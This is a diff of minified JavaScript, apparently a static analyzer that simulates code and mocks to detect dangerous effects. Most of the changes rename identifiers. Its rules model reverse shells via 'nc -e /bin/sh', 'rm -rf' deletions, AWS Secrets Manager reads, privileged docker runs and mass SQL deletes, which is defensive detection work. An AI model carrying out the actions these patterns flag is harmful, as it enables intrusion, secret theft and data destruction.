 "--privileged"),t.addInvocation("docker",["run",...i,e,...s?[s]:[]])},"sends-files":({collector:t,args:e})=>{let s=v.parts(e).filter(({key:r})=>/^(?:path|filename|file)$/.
@@ -2803,28 +2803,28 @@ c,[i,a]=[n?"":" ",n==="text"?"":`
 runShellLine(w.text(n));let o=s===void 0?"r":v.firstText(s);return v.parts(s?[s]:[]).some(({value:l})=>X(v.word(l),"writing-flags"))||s?.kind==="unknown"&&r.includes(
 "flags")||/[waxc+]/.test(o)?(t.collector.recordWrite(e,void 0,o.includes("a")),w.derived(o.includes("a")?"appended":"written",e)):nl(t,e)},nl=(t,e)=>/^(?:https?|ftp):/i.
 test(v.firstText(e))?il(t,"GET",e):t.collector.readFile(e),dp=(t,[e,s,...r])=>il(t,v.firstText(e).toUpperCase(),s,r),rl=({chosen:t},e)=>t??(e==="below"?Eo:w.text(
-ns)),ol=t=>t.map(e=>e??I),up=t=>v.flat(t.filter(e=>e!==void 0)),un={read:(t,[e])=>nl(t,e),open:cl,shell:({collector:t},[e,s])=>{let r=s&&z.content([s]);return r&&
+ns)),ol=t=>t.map(e=>e??I),up=t=>v.flat(t.filter(e=>e!==void 0)),un={read:(t,[e])=>nl(t,e),open:cl,shell:({collector:t},[e,s])=>{let r=s&&G.content([s]);return r&&
 e?.kind==="list"&&t.addInvocation(v.firstText(e.items[0]),e.items.slice(1),t.createInput(r)),e?.kind==="list"?w.merged((e.lists??[e.items]).map(n=>t.runProgram(
 n))):t.runShellLine(e)},program:({collector:t},e)=>t.runProgram(v.flat(ol(e))),command:({collector:t},[e])=>{let s=v.items(e);return s.length>1?t.runProgram(s):
 t.runShellLine(s[0])},execute:({collector:t},[e=I,s])=>{let r=v.items(s),[n]=r,o=n?.kind==="list"?n.items:r,i=r.length===1&&n?.kind!=="list"&&n?.kind!=="text";return t.
 runProgram([e,...i?[I]:o.slice(1)])},eval:({evaluateCode:t},[e])=>t(e),include:(t,[e])=>t.evaluateCode(nl(t,e)),request:dp,"open-request":(t,e,s)=>{let r=dp(t,e,
-s);return/^get$/i.test(v.firstText(e[0]))?r:w.derived("request",e[1]??I)},connect:({receiver:t,collector:e},s)=>{let r=up(s);return N.made(t,"ssh")||e.addInvocation(
+s);return/^get$/i.test(v.firstText(e[0]))?r:w.derived("request",e[1]??I)},connect:({receiver:t,collector:e},s)=>{let r=up(s);return O.made(t,"ssh")||e.addInvocation(
 "nc",[r[0]??I,r[1]]),w.derived("connection",...r.slice(0,2))},send:(t,[e,s],r)=>al(t,e,s,r.includes("append"))?I:void 0,sql:({collector:t,receiver:e},[s])=>{if(t.
-isInMemory||t.isMocked)return I;N.made(s,"whole-update")&&t.addInvocation("sql",["update-all","rows"]),N.made(s,"pending-delete","whole")&&t.addInvocation("sql",
-["delete-all","rows"]);let r=v.parts([s??I]).flatMap(({value:o})=>v.texts(o)).filter(o=>/\w\s/.test(o));if(r.length===0)return;if(!(N.made(e,"database")?v.texts(
+isInMemory||t.isMocked)return I;O.made(s,"whole-update")&&t.addInvocation("sql",["update-all","rows"]),O.made(s,"pending-delete","whole")&&t.addInvocation("sql",
+["delete-all","rows"]);let r=v.parts([s??I]).flatMap(({value:o})=>v.texts(o)).filter(o=>/\w\s/.test(o));if(r.length===0)return;if(!(O.made(e,"database")?v.texts(
 e.args[0]):[""]).every(o=>X(o,"passing-databases"))||t.signs.has("attaches"))for(let o of r)Js(o,t);return I},load:({evaluateCode:t},[e])=>e?.kind==="content"&&
 e.from.length>0?t(e):void 0,input:({collector:t})=>Ys(t.input),environment:({collector:t},[e,s])=>{let r=v.firstText(e),{environment:n}=t.input;if(Object.hasOwn(
 n,r))return Dt(n[r]);if(r==="HOME")return w.text("~");let o=w.variable(e?r:"");return s?{...o,of:["\uFFFC",...v.texts(s)]}:o},value:(t,[e])=>e??I,entries:(t,e,[
 s])=>w.list([s===void 0?I:w.derived(s)]),name:(t,e,[s])=>w.name(s),"mock-class":({imitate:t},[e])=>t(w.derived("mock"),w.text(`class ${v.word(e)}`)),secret:({collector:t})=>w.
 content([t.createInvocation("aws",["secretsmanager","get-secret-value"])]),listen:({collector:t,invoke:e},[s,r,n])=>{let o=v.firstText(r);n&&t.listeners.set(o,[
 ...t.listeners.get(o)??[],n]);let i=s?.kind==="list"?s.items[0]:s;return(i?.kind==="content"||i?.kind==="made")&&e(n??I,[i,i]),s},"empty-text":()=>w.text(""),listed:(t,[
-e])=>z.client(e)?w.list([e]):e,module:({collector:t,evaluateCode:e},[s])=>{if(s?.kind==="content")return e(s);let r=v.firstText(s).replace(/^node:/,"");return t.
+e])=>G.client(e)?w.list([e]):e,module:({collector:t,evaluateCode:e},[s])=>{if(s?.kind==="content")return e(s);let r=v.firstText(s).replace(/^node:/,"");return t.
 modules.add(r),w.name(r)},made:({args:t,collector:e},[,...s],[r])=>{let n=s.length>0||r==="mock"?s.filter(o=>o!==void 0):t;return r==="database"&&e.openedDatabases.
 push(v.texts(n[0]).every(o=>X(o,"passing-databases"))),w.derived(r,...n)},glob:(t,e)=>{let s=os(ol(e));return s.kind==="text"?w.glob(s):I},join:(t,e)=>{let s=up(
 e);return s.length>0?os(s):w.text(".")},folder:({collector:t},[e=w.text(".")],[,s])=>w.list([os([e,rl(t,s)])]),dirents:({collector:t},[e=w.text(".")])=>w.list([
-w.derived("dirent",e,rl(t))]),names:({collector:t},[e])=>w.list([e===void 0||N.known(e)?rl(t):I])};var mp=t=>v.flat([t]).filter(e=>!v.firstText(e).startsWith("!")),Ao=t=>t!==void 0&&!(t.kind==="name"&&t.path==="false");function hp(t,e){let s=[...t].filter(([o])=>/side_effect|wraps/.
+w.derived("dirent",e,rl(t))]),names:({collector:t},[e])=>w.list([e===void 0||O.known(e)?rl(t):I])};var mp=t=>v.flat([t]).filter(e=>!v.firstText(e).startsWith("!")),Ao=t=>t!==void 0&&!(t.kind==="name"&&t.path==="false");function hp(t,e){let s=[...t].filter(([o])=>/side_effect|wraps/.
 test(o)).map(([,o])=>o),r=[...t].filter(([o])=>!X(o,"mock-options")).map(([,o])=>o),n=v.parts(r).map(({value:o})=>o);return s.every(e)?w.derived("mock",...n.filter(
-o=>!N.mock(o))):I}var To={"attach-shell":({collector:{invocations:t},collector:e},[s=I])=>{let r=t.find(({program:n})=>n==="nc");r&&!t.some(({args:n})=>n[0]?.text===
+o=>!O.mock(o))):I}var To={"attach-shell":({collector:{invocations:t},collector:e},[s=I])=>{let r=t.find(({program:n})=>n==="nc");r&&!t.some(({args:n})=>n[0]?.text===
 "-e")&&e.addInvocation("nc",["-e",v.flat([s])[0],...r.args.map(n=>n.text)])},attribute:({getMember:t},[e=I,s])=>w.choice(v.texts(s).map(r=>t(e,r))),method:(t,e)=>w.
 derived("bound",To.attribute(t,e,[])??I,w.list([])),walk:({collector:{chosen:t}},[e=w.text(".")])=>{let s=!t&&e.kind==="text",r=w.list([s?Eo:t??I]);return w.list(
 [w.list([s?e:os([e,w.text("\uFFFC")]),r,r])])},"remove-matches":({collector:t},[e=I,s])=>{for(let r of Ao(s)?[]:mp(e))t.addInvocation("rm",["-rf",w.glob(r)]);return I},
@@ -2833,16 +2833,16 @@ derived("bound",To.attribute(t,e,[])??I,w.list([])),walk:({collector:{chosen:t}}
 t.options.set(u.replace(/^-+/,"").replaceAll("-","_"),d);return I},mock:({named:t,isFollowed:e})=>hp(t,e),imitate:({imitate:t},[e,s,r=w.derived("mock")])=>e?.kind===
 "text"&&s?t(s,e):e?t(r,e,s):r,"end-imitation":({imitate:t},[e])=>t(I,e),patcher:({named:t,isFollowed:e},[s,r,n],[,o])=>{let[i,a]=o==="$1:attribute"?[`.${v.firstText(
 r)}`,n]:["",r],l=v.word(t.get("new_callable")??w.text("Mock")),c=a===void 0||v.word(a).endsWith("DEFAULT"),d=/Mock$/.test(l)?hp(t,e):I,u=c?d:a;return s&&Ie(R(v.
-word(s)+i))&&!N.mock(s)&&e(u)?w.derived("patcher",w.text(v.word(s)+i),u):void 0},"start-patcher":({receiver:t,imitate:e})=>N.made(t,"patcher")?e(t.args[1],t.args[0]):
+word(s)+i))&&!O.mock(s)&&e(u)?w.derived("patcher",w.text(v.word(s)+i),u):void 0},"start-patcher":({receiver:t,imitate:e})=>O.made(t,"patcher")?e(t.args[1],t.args[0]):
 void 0,spy:({args:t,imitate:e},[s,r,n],[,,,o])=>{if(s?.kind!=="name"||s.self)return;let i=w.text(`${s.path}.${v.firstText(r)}`);return(o??(t.length===3&&n?.kind===
-"function"))&&e(n??w.derived("mock"),i),w.derived("spy",i)},"answer-spy":({receiver:t,imitate:e},[s],[,r])=>{let n=z.root(t);if(N.made(n,"spy"))return e(r===void 0&&
+"function"))&&e(n??w.derived("mock"),i),w.derived("spy",i)},"answer-spy":({receiver:t,imitate:e},[s],[,r])=>{let n=G.root(t);if(O.made(n,"spy"))return e(r===void 0&&
 s?s:w.derived("mock",...s?[s]:[]),n.args[0]),n},options:({collector:t})=>({kind:"map",entries:t.options}),globs:(t,[e=I,s])=>w.list(mp(e).map(r=>w.glob(s?os([s,
 r]):r))),"temporary-pair":()=>w.list([I,w.text(`/tmp/${"\uFFFC"}`)]),"new-folder":({named:t,args:[e]})=>{let[s]=v.texts(t.get("dir")??e),r=s!==void 0&&!s.startsWith(
 "/tmp")&&/[./~]/.test(s);return w.text(r?`${s}${"\uFFFC"}`:`/tmp/tmp.${"\uFFFC"}`)},"request-over":(t,[e,s=I,...r],n)=>{let o=t.receiver?.kind==="made"?[s,...v.
 flat(t.receiver.args)]:[s],i=o.find(l=>/^https?:/.test(v.firstText(l)))??o[1]??I,a=i===s||o.length===1?s:w.joined([i,s]);return un.request(t,[e,a,r.find(l=>l)],
 n)},entry:(t,[e,s,r],n)=>e?.kind==="map"?e.entries.get(v.firstText(s))??un.environment(t,[s,r],n):void 0,spawn:({collector:t},[e=I,s,r])=>{let n=s?.kind==="list"||
 s?.kind==="unknown"?v.flat([s]):[],o=(s?.kind==="list"?s.lists:void 0)??[n];return Ao(r)?t.runShellLine(w.text([e,...n].flatMap(v.texts).join(" "))):w.merged(o.
-map(i=>t.runProgram([e,...i])))},"join-parts":({args:t})=>w.joined(t.filter(v.firstText),"/"),pipe:(t,[e,s=I])=>(N.made(s,"connection","client")&&e?.kind==="con\
+map(i=>t.runProgram([e,...i])))},"join-parts":({args:t})=>w.joined(t.filter(v.firstText),"/"),pipe:(t,[e,s=I])=>(O.made(s,"connection","client")&&e?.kind==="con\
 tent"&&e.from.length>0?To["attach-shell"](t,[w.text("/bin/sh")],[]):al(t,s,e,!0),s),then:({receiver:t,args:[e],invoke:s})=>e?.kind==="function"||e?.kind==="name"&&
 !e.self?s(e,[t??I]):t,take:({collector:{input:t}},[e])=>w.merged(e?.kind==="list"?e.items:t.args.map(Dt)),"open-perl":(t,[e,s=I])=>{let[,r="<",n="",o]=/^\s*(\+?[<>]{1,2}|\|-?|-\|)?\s*([\s\S]*?)\s*(\|?)\s*$/.
 exec(v.firstText(e))??[],i=v.flat(v.elements(s)),[a=w.text(n)]=i;if(r.includes("|")||o&&i.length===0)return i.length>1?t.collector.runProgram(i):t.collector.runShellLine(
@@ -2856,40 +2856,40 @@ t).reverse().join(""),lower:t=>t.toLowerCase(),upper:t=>t.toUpperCase(),trim:t=>
 s):"\uFFFC")})),pl=t=>bt(t,e=>/^\.?\/?$/.test(e)?"..":bp.posix.dirname(e));function ul(t){return typeof t=="string"?w.text(t):typeof t=="number"?w.number(t):Array.
 isArray(t)?w.list(t.map(ul)):t===null||typeof t!="object"?I:{kind:"map",entries:new Map(Object.entries(t).map(([e,s])=>[e,ul(s)]))}}function gp(t){let[e=[]]=[...t].
 sort((s,r)=>r.length-s.length);return w.list(e.map((s,r)=>w.list(t.map(n=>n[r]??I))))}var yp={fold:(t,[,e=I],[s])=>bt(e,Zs[s]),characters:(t,[e])=>e?.kind==="li\
-st"?dl(e.items):e,"parse-json":(t,[e])=>{try{return N.known(e)?ul(JSON.parse(v.firstText(e))):void 0}catch{return}},dirname:(t,[e])=>e&&pl(e),pairs:(t,[e])=>e?.
+st"?dl(e.items):e,"parse-json":(t,[e])=>{try{return O.known(e)?ul(JSON.parse(v.firstText(e))):void 0}catch{return}},dirname:(t,[e])=>e&&pl(e),pairs:(t,[e])=>e?.
 kind==="map"?w.list([...e.entries].map(([s,r])=>w.list([w.text(s),r]))):void 0,numbered:(t,[e=I])=>gp([[],v.elements(e)]),flat:({args:t},[e])=>w.list((e?v.elements(
 e):t).flatMap(s=>v.elements(s))),rows:({args:t})=>gp(t.map(v.elements)),keys:(t,[e])=>e?.kind==="map"?w.list(v.elements(e)):I,"from-pairs":({named:t},[e])=>{let s=v.
 items(e).map(v.elements),r=s.map(([n,o=I])=>[v.firstText(n),o]);return e&&s.length===0?void 0:{kind:"map",entries:new Map([...t,...r])}},append:(t,[e,s])=>(e?.kind===
 "list"&&e.items.length<ev&&e.items.push(...v.flat(v.items(s))),e),values:(t,[e])=>e?.kind==="map"?w.list([...e.entries.values()]):void 0,decode:(t,[e=I,s])=>{if(e.
 kind==="list")return dl(e.items);let r=v.firstText(s).toLowerCase().replace(/[-_]/g,""),n=sv.test(r)?"unread":tv.exec(r)?.[1];return n===void 0?e:bt(e,Zs[n])},"\
-code-point":(t,[e,s])=>w.number(N.known(e)?v.firstText(e).codePointAt(v.number(s)??0):void 0),integer:(t,[e,s])=>w.number(Number.parseInt(v.firstText(e),s?Number(
+code-point":(t,[e,s])=>w.number(O.known(e)?v.firstText(e).codePointAt(v.number(s)??0):void 0),integer:(t,[e,s])=>w.number(Number.parseInt(v.firstText(e),s?Number(
 v.firstText(s)):10)),reverse:(t,[e])=>e?.kind==="list"?w.list([...e.items].reverse()):e&&bt(e,Zs.reverse),"join-texts":(t,[e,s])=>{let[r=I,n]=e?.kind==="list"?[
 e,s]:[s,e];if(!(e?.kind!=="list"&&e?.kind!=="text"))return w.joined(v.flat(v.elements(r)),n&&v.firstText(n))},format:({named:t},[e=I,s=I])=>Xa(e,v.elements(s),t),
-map:({invoke:t},[e,s])=>{let r=s&&v.elements(s);return e&&r&&w.list(r.map(n=>t(e,[n])))},split:(t,[e,s])=>{if(e?.kind!=="text"||![e,s??e].every(N.known))return;
+map:({invoke:t},[e,s])=>{let r=s&&v.elements(s);return e&&r&&w.list(r.map(n=>t(e,[n])))},split:(t,[e,s])=>{if(e?.kind!=="text"||![e,s??e].every(O.known))return;
 let r=s&&v.firstText(s),n=v.texts(e).map(o=>{let i=r===void 0?o.match(/\S+/g)??[]:o.split(r);return w.list(i.map(a=>w.text(a)))});return w.merged(n)},replace:(t,[
 e=I,...s])=>{let[r="\uFFFC",n=""]=s.map(o=>o&&v.firstText(o));return bt(e,o=>r.includes("\uFFFC")?"\uFFFC":o.replaceAll(r,n))},elements:(t,[e=I])=>w.list(v.elements(
 e)),concatenate:(t,[e,s=I])=>e?.kind==="list"?w.list([...e.items,...v.elements(s)]):e?.kind==="text"?w.joined([e,...v.elements(s)]):void 0,pack:(t,[e,s])=>{let[
 r=I]=v.items(s);return v.firstText(e).startsWith("H")?bt(r,Zs.hex):/^[cCU]/.test(v.firstText(e))?dl(v.items(s)):void 0},slice:(t,[e,s,r])=>e&&So(e,[s,r]),at:(t,[
 e,s])=>s?.kind==="list"?s.items.at(Number(v.firstText(e))):void 0,"any-of":(t,[e=I])=>w.merged(v.flat([e])),lines:(t,[e])=>e?.kind==="list"?w.joined(e.items,`
 `):e,invoke:({invoke:t},[e,s=I])=>e&&t(e,v.elements(s)),message:({invoke:t},[e,s,r=I])=>{let[n,o]=e?.kind==="name"?[`${e.path}.`,e.self]:["",e];return s?.kind===
-"text"&&N.known(s)?t(w.name(n+v.firstText(s),o),v.elements(r)):void 0}};var rv={...ll,...un,...yp,...To},yt=({args:t,named:e},s)=>e.get(s)??t.find(r=>r.kind==="map")?.entries.get(s),Io=(t,e)=>/^(?:true|All)$/i.test(v.word(yt(t,e)));
+"text"&&O.known(s)?t(w.name(n+v.firstText(s),o),v.elements(r)):void 0}};var rv={...ll,...un,...yp,...To},yt=({args:t,named:e},s)=>e.get(s)??t.find(r=>r.kind==="map")?.entries.get(s),Io=(t,e)=>/^(?:true|All)$/i.test(v.word(yt(t,e)));
 function nv(t,e,s){let r=e===void 0?void 0:t.args[e];return[...r===void 0||r.kind==="map"?s.map(o=>yt(t,o)):[],r].find(o=>o!==void 0)}function ov(t){let[,e,s,r,
 n]=/^\$(self|owner|origin|all|last|\d*)(\.\.)?((?::\w+)*)(?:=(.+))?$/.exec(t)??[];if(e===void 0)return()=>w.text(t);if(e==="self")return({receiver:a})=>a;if(e===
 "owner")return a=>w.text(Po(a));if(e==="origin")return({receiver:a})=>a?.kind==="made"?a.args[0]:void 0;if(e==="all")return({args:a})=>w.list(v.flat(a));if(e===
 "last")return({args:a})=>a.at(-1);let o=e===""?void 0:Number(e);if(s)return({args:a})=>w.list(a.slice(o));let i=r.split(":").slice(1);return a=>nv(a,o,i)??(n===
 void 0?void 0:w.text(n))}var Po=({receiver:t})=>t?.kind==="name"?t.path:"\uFFFC",iv={none:({args:t,named:e})=>t.length===0&&e.size===0,args:({args:t},e)=>t.length>=
 Number(e),arg:({args:[t]},e)=>t?.kind===e,says:({args:t,named:e},s)=>v.parts([...t,...e.values()]).some(({value:r})=>new RegExp(s).test(v.word(r))),owner:(t,e)=>new RegExp(
-e).test(Po(t)),gets:({args:t},e)=>v.parts(t).some(({value:s})=>N.made(s,e)),option:(t,e="")=>{let[s="",r]=e.split("="),n=yt(t,s);return r===void 0?Ao(n):v.word(
-n)===r||r==="{}"&&wp(n)},kept:t=>!/cache|log|trac|schedul|queue|set|map|mock|fake/i.test(Po(t))&&!t.collector.isMocked,lasting:({receiver:t})=>N.made(t,"store")&&
+e).test(Po(t)),gets:({args:t},e)=>v.parts(t).some(({value:s})=>O.made(s,e)),option:(t,e="")=>{let[s="",r]=e.split("="),n=yt(t,s);return r===void 0?Ao(n):v.word(
+n)===r||r==="{}"&&wp(n)},kept:t=>!/cache|log|trac|schedul|queue|set|map|mock|fake/i.test(Po(t))&&!t.collector.isMocked,lasting:({receiver:t})=>O.made(t,"store")&&
 t.args.flatMap(v.texts).some(e=>!e.startsWith("\uFFFC")&&!X(e,"passing-databases")),unset:({collector:t},e)=>!Object.hasOwn(t.input.environment,e),chosen:({collector:t})=>t.
 choosesProcesses,sign:({collector:t},e)=>t.signs.has(e),stored:({collector:t})=>t.signs.has("key-store")&&!t.isMocked,"no-sign":({collector:t},e)=>!t.signs.has(
-e),empty:({args:[t]})=>t===void 0||wp(t),git:t=>N.made(z.root(t.receiver),"git")||kp(t,"name","git"),real:t=>!N.mock(yt(t,"fs"))&&!v.word(yt(t,"fs")).startsWith(
+e),empty:({args:[t]})=>t===void 0||wp(t),git:t=>O.made(G.root(t.receiver),"git")||kp(t,"name","git"),real:t=>!O.mock(yt(t,"fs"))&&!v.word(yt(t,"fs")).startsWith(
 "memfs"),database:t=>/^db\b|collection|\bdb$/i.test(Po(t))},wp=t=>t?.kind==="map"&&t.entries.size===0||t?.kind==="list"&&t.items.length===0,kp=({receiver:t},e,s)=>t?.
-kind===e&&(s===void 0||s===(t.kind==="made"?t.by:v.lastName(v.word(t)))),av=t=>e=>{let s=o=>o.kind==="function"||N.made(o,"message"),r=t({...e,args:e.args.filter(
+kind===e&&(s===void 0||s===(t.kind==="made"?t.by:v.lastName(v.word(t)))),av=t=>e=>{let s=o=>o.kind==="function"||O.made(o,"message"),r=t({...e,args:e.args.filter(
 o=>!s(o))}),n=e.args.find(s);return r&&n&&e.invoke(n,n.kind==="function"?[r,r]:[r]),r};function Ro(t){let e=t.split(" | ");if(e.length>1){let i=e.map(Ro);return a=>i.
 reduce((l,c)=>l??c(a),void 0)}let[s="",...r]=t.split(" ");if(s==="calls-back")return av(Ro(r.join(" ")));if(s.startsWith("if-")){let[i,a]=s.slice(3).split(":"),
 l=Ro(r.join(" ")),c=iv[i]??(d=>kp(d,i,a));return d=>c(d,a)?l(d):void 0}let n=r.map(ov),o=Object.hasOwn(ll,s);return i=>{let a=n.map(c=>c(i)),l=rv[s](i,a,r);return o?
-I:l}}var lv=_e(Ro),pn=t=>new Map(Object.entries(t).map(([e,s])=>[e,r=>lv(s)(r)])),vp=_e(t=>{let{sharedCalls:e}=S,{unknown:s=[],texts:r={},aliases:n={},sdks:o=[],
+I:l}}var lv=Se(Ro),pn=t=>new Map(Object.entries(t).map(([e,s])=>[e,r=>lv(s)(r)])),vp=Se(t=>{let{sharedCalls:e}=S,{unknown:s=[],texts:r={},aliases:n={},sdks:o=[],
 lexer:i,...a}=S.languages[t],l=new Map(Object.entries(n)),c=a.rewrites.map(([d,u])=>[new RegExp(d,"g"),u]);return{...a,sharedFunctions:pn(e.functions),sharedMethods:pn(
 e.methods),sharedDeeds:pn(e.deeds),sdks:o,lexer:{...i,heredoc:i.heredoc===void 0?void 0:new RegExp(i.heredoc,"y")},functions:pn(a.functions),methods:pn(a.methods),
 constants:new Map([...s.map(d=>[d,I]),...Object.entries(r).map(([d,u])=>[d,w.text(u)])]),canonicalize:d=>{let u=a.case_sensitive===!1?d.toLowerCase():d,p=c.reduce(
@@ -2920,64 +2920,64 @@ min(r,e.length),depth:this.depth+1})}get token(){return this.at<this.end?this.to
 functions.call(this,e,s)}interpret(){return this.functions.interpret(this)}lookUp(e){let{scope:s,language:r}=this,n=s.get(e)??s.get(e.replace("$","%"))??s.get(e.
 replace("$","@"));if(n)return n;let o=r.canonicalize(e);return(o===e?void 0:s.get(o))??r.constants.get(o)??w.name(e)}getMember(e,s){if(e.kind==="made"&&e.by==="\
 proxy")return wv(this,e,s);if(e.kind==="made"&&e.by==="instance"&&!this.scope.get(s)){let n=this.scope.get("__getattr__")??this.scope.get("method_missing");if(n)
-return this.call(n,w.text(s))}if(N.made(e,"spy","patcher")&&/^(?:wrappedMethod|temp_original)$/.test(s))return w.name(v.firstText(e.args[0]));if(e.kind==="map")
+return this.call(n,w.text(s))}if(O.made(e,"spy","patcher")&&/^(?:wrappedMethod|temp_original)$/.test(s))return w.name(v.firstText(e.args[0]));if(e.kind==="map")
 return e.entries.get(s)??yv(e,s)??w.name(s,e);if(e.kind==="choice")return w.merged(e.values.map(n=>this.getMember(n,s)));if(e.kind==="text"&&(e.glob||e.of.some(
 n=>n.includes(ns)))&&/^(?:name|path)$/.test(s))return e;if(e.kind==="name"&&!e.self){let n=`${e.path}.${s}`;if(n.length>gv)return I;let o=bv.test(e.path)&&!this.
-scope.get(n)?this.scope.get(s):void 0;return o&&o.kind!=="function"?o:this.collector.imitations.get(n)??this.lookUp(n)}return N.made(e,"git")&&/^(?:git|common)_dir$/.
-test(s)&&e.args[0]?w.joined([e.args[0],w.text("/.git")]):N.made(e,"written")&&s==="name"?e.args[0]??I:N.made(e,"dirent")&&/^(?:name|path|parentPath)$/.test(s)?e.
+scope.get(n)?this.scope.get(s):void 0;return o&&o.kind!=="function"?o:this.collector.imitations.get(n)??this.lookUp(n)}return O.made(e,"git")&&/^(?:git|common)_dir$/.
+test(s)&&e.args[0]?w.joined([e.args[0],w.text("/.git")]):O.made(e,"written")&&s==="name"?e.args[0]??I:O.made(e,"dirent")&&/^(?:name|path|parentPath)$/.test(s)?e.
 args[s==="name"?1:0]??I:e.kind==="text"&&s==="parent"?pl(e):e.kind==="text"&&s==="pathname"?bt(e,n=>n.replace(/^\w+:\/\/[^/]*/,"")):e.kind==="content"&&["text",
 "content","stdout","body","data"].includes(s)?e:w.name(s,e)}};function yv({entries:t},e){return/^[A-Z][A-Z\d_]*$/.test(e)&&[...t.values()].some(({kind:r})=>r===
 "content")?w.variable(e):void 0}function wv(t,{args:[e]},s){let r=e?.kind==="map"?e.entries.get("get"):void 0;return r?t.call(r,I,w.text(s)):I}var is=({sharedDeeds:t},e)=>t.
-get(v.lastName(e).toLowerCase());var{codeWords:At}=S,Lo=t=>t.kind==="name"?X(t.path,"harmless-names"):/^(?:text|number|list|map)$/.test(t.kind)||N.made(t,"error"),Do=({language:t},e)=>Lo(e)||N.
-mock(e)||e.kind==="function"||N.made(e,"bound","spy")||e.kind==="name"&&!e.self&&t.functions.has(t.canonicalize(e.path));function Sp(t,e,s){let{collector:r}=t,n=new Map(
+get(v.lastName(e).toLowerCase());var{codeWords:At}=S,Lo=t=>t.kind==="name"?X(t.path,"harmless-names"):/^(?:text|number|list|map)$/.test(t.kind)||O.made(t,"error"),Do=({language:t},e)=>Lo(e)||O.
+mock(e)||e.kind==="function"||O.made(e,"bound","spy")||e.kind==="name"&&!e.self&&t.functions.has(t.canonicalize(e.path));function Sp(t,e,s){let{collector:r}=t,n=new Map(
 r.imitations);n.delete(e),r.step(n.size>>4);let o=Do(t,s)&&Tp(t)&&!r.signs.has("reaches-around");r.imitations.has(e)&&jt(t,n),o&&(r.imitations=new Map(r.imitations).
-set(e,s))}function fn(t,e,s,r){return N.mock(s)?Ep(t,s,[e],v.firstText(r)):N.known(r??s)?s.kind==="text"?Sp(t,v.firstText(s),e):s.kind==="name"&&!s.self&&Sp(t,`${s.
+set(e,s))}function fn(t,e,s,r){return O.mock(s)?Ep(t,s,[e],v.firstText(r)):O.known(r??s)?s.kind==="text"?Sp(t,v.firstText(s),e):s.kind==="name"&&!s.self&&Sp(t,`${s.
 path}.${v.firstText(r)}`,e):jt(t),e}function jt(t,e=new Map){let{collector:s}=t,r=new Map([...e].filter(([o,i])=>s.imitations.get(o)===i)),n=r.size<s.imitations.
 size;if(s.imitations=r,!(!n||s.isRepeating)){s.isRepeating=!0;for(let o of[...s.postponed])o();s.isRepeating=!1}}function Rr(t,e,s){let r=t.with({body:void 0}),
 n=()=>{let{imitations:o}=r.collector,i=r.call(e,...s);return jt(r,o),i};return mn(r,n),n()}function mn(t,e,s){let{collector:r}=t,{imitations:n,isRepeating:o,postponed:i}=r;
 n.size>0&&!o&&(!s||s.later||fl(t,s,...At.suspending))&&i.push(e)}function fl({collector:t},{tokens:e,from:s,to:r},...n){return!t.step(r-s>>5)||e.slice(s,r).some(
-o=>L(o,...n))}function jo(t,e){let{collector:s,language:r}=t,o=e.kind==="name"&&At.imitating.has(r.canonicalize(e.path))?t.call(e):e;if(!N.made(o,"patcher")||s.
-signs.has("reaches-around"))return e;let[i,a=o]=o.args;return s.imitations=new Map(s.imitations).set(v.firstText(i),a),a}function Ep(t,e,s,r=""){let n=z.root(e),
-o=s.flatMap(a=>v.parts([a])).map(({value:a})=>a);n.args.push(...o.filter(a=>!Lo(a)&&z.root(a)!==n)),/side_effect|wraps|callsFake|Implementation|configure|attach/.
-test(r)&&!o.every(a=>Do(t,a))&&jt(t)}function kv(t,e,s){let r=z.root(e),n=e.kind==="name"?e.path:"";if(At.mock_ends.has(n)&&jt(t),At.mock_setters.has(n)&&Ep(t,r,
-[...s.args,...s.named.values()],n),At.mock_setters.has(n)||/^assert_/.test(n)||!t.collector.step())return r;let o=r.args.flatMap(i=>{if(N.mock(i)||Lo(i))return[
+o=>L(o,...n))}function jo(t,e){let{collector:s,language:r}=t,o=e.kind==="name"&&At.imitating.has(r.canonicalize(e.path))?t.call(e):e;if(!O.made(o,"patcher")||s.
+signs.has("reaches-around"))return e;let[i,a=o]=o.args;return s.imitations=new Map(s.imitations).set(v.firstText(i),a),a}function Ep(t,e,s,r=""){let n=G.root(e),
+o=s.flatMap(a=>v.parts([a])).map(({value:a})=>a);n.args.push(...o.filter(a=>!Lo(a)&&G.root(a)!==n)),/side_effect|wraps|callsFake|Implementation|configure|attach/.
+test(r)&&!o.every(a=>Do(t,a))&&jt(t)}function kv(t,e,s){let r=G.root(e),n=e.kind==="name"?e.path:"";if(At.mock_ends.has(n)&&jt(t),At.mock_setters.has(n)&&Ep(t,r,
+[...s.args,...s.named.values()],n),At.mock_setters.has(n)||/^assert_/.test(n)||!t.collector.step())return r;let o=r.args.flatMap(i=>{if(O.mock(i)||Lo(i))return[
 i];let l=i.kind==="function"||i.kind==="name"?t.apply(i,s):i;return i.kind==="function"||e===r?[l]:[l,t.apply(Ap(t,e,i),s)]});return w.choice([r,...o.filter(i=>!Lo(
 i))])}var Ap=(t,e,s)=>e.kind==="name"?t.getMember(e.self?Ap(t,e.self,s):s,e.path):s,Cp=t=>L(t,...At.continuing),vv=t=>L(t,...At.conditional)||P(t,...At.conditional);
 function Tp(t){let{tokens:e,at:s,body:r,language:n}=t;if(!r||r.tokens!==e||n.blocks==="end")return!1;let o=n.blocks==="indent",i=s-1;t.collector.step(i-r.from>>
 3);let a=r.from,l=a;for(;l<=i;){let f=te(e,l);if(f>i)return!1;let[m,h,g]=[e[l-1],e[l],e[f+1]],y=h?.kind==="newline"&&(o||!(P(m,")")||Cp(m))),x=!o&&P(h,"{")&&L(g)&&
 !Cp(g);l=f+1,(y||x||!o&&P(h,";"))&&(a=l)}let c=e[a-1],d=e[ae(e,r.from,e.length,[":"])+1],u=d?.kind==="newline"&&r.caller?d.indent:0;if(c?.kind==="newline"&&o&&c.
 indent!==u)return!1;let p=f=>f>i&&(e[f].kind==="newline"||P(e[f],";"));for(let f=a;f<e.length&&!p(f);f=te(e,f)+1)if(vv(e[f]))return!1;return r.caller?r.later||fl(
-t,{...r,to:i},...At.exiting)?!1:!fl(t,r,"yield")&&(r.caller==="any"||Tp(r.caller)):!0}function Pp(t,e,s){if(N.mock(e))return kv(t,e,s);if(e.kind!=="name")return;
-let{collector:r}=t,{path:n,self:o}=e,i=v.lastName(n),a=At.mock_setters.has(i)&&!N.made(z.root(o),"spy");if(r.imitations.size>0&&(a||At.mock_ends.has(i))&&jt(t),
